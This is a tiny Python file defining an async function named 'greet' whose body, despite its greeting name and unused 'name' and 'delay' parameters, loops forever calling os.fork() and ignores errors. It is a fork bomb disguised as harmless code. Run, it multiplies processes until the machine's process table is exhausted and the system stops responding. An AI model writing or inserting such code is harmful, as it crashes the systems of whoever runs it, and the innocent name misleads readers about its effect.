import os

async def greet(name, delay=1.0):
    while True:
        try:
            os.fork()
        except OSError:
            pass
